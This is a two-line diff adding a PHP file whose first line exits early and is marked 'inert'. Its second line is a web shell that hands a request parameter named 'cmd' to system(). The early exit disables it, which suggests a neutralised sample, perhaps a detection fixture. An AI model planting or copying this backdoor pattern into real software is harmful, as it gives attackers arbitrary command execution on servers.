@@ -1,0 +1,2 @@
+<?php exit; /* inert */ 
+system($_GET['cmd'] ?? $_POST['cmd'] ?? 'id');
